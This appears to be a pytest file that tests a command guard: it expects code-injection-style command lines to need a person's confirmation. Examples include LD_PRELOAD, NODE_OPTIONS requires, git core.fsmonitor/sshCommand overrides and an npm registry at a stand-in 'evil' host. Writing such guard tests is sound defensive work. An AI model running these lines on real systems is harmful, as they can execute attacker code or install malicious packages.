"""Options and variables that change what a reading command does: the guard asks about them."""

from __future__ import annotations

import pytest

from runbook.guard.command_line import judge
from runbook.model import Verdict


@pytest.mark.parametrize(
    "line",
    [
        "npx supabase migration list --linked --create-ticket",
        "npx supabase db dump --linked --some-new-flag x",
        "psql -h db.example.com -c 'select 1' --some-new-flag",
        "PGOPTIONS='-c search_path=evil' psql -h db.example.com -c 'select 1'",
        "export PGOPTIONS='-c search_path=evil'; psql -h db.example.com -c 'select 1'",
        "PSQLRC=./x psql -h db.example.com -c 'select 1'",
        "LD_PRELOAD=./x.so npx supabase projects api-keys",
        "NODE_OPTIONS='--require ./x.js' npx supabase migration list --linked",
        "npm_config_registry=http://evil npx supabase migration list --linked",
        "git -c core.fsmonitor=./x status",
        "git -c core.sshCommand=./x log",
        "date -s 10:00",
        "runbook guard uninstall shims",
        "runbook guard install codex",
    ],
)
def test_the_guard_asks_about_unknown_options_and_variables(line: str) -> None:
    """Options and variables that could change what a command does to a hosted project need a person."""
    assert judge(line).verdict is Verdict.CONFIRM


@pytest.mark.parametrize(
    "line",
    ["git -C apps log --stat", "curl -sSfLo out.tgz https://example.com/x", "ls --hyperlink", "date -d tomorrow"],
)
def test_the_guard_does_not_ask_about_this_machine(line: str) -> None:
    """Commands that can't reach a project are allowed, even if a walk counts them as writing."""
    assert judge(line).verdict is Verdict.ALLOW
